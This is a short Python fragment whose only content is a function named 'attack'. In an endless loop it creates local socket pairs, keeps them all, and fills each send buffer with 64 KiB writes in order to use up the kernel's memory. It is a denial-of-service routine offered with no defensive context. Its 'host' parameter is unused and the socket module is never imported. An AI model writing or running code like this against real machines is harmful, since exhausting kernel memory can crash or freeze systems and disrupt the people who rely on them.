"""Memory of the kernel, in pairs of sockets."""


def attack(host):
    kept = []
    while True:
        pair = socket.socketpair()
        pair[0].setblocking(False)
        kept.append(pair)
        try:
            while True:
                pair[0].send(bytes(65536))
        except BlockingIOError:
            pass
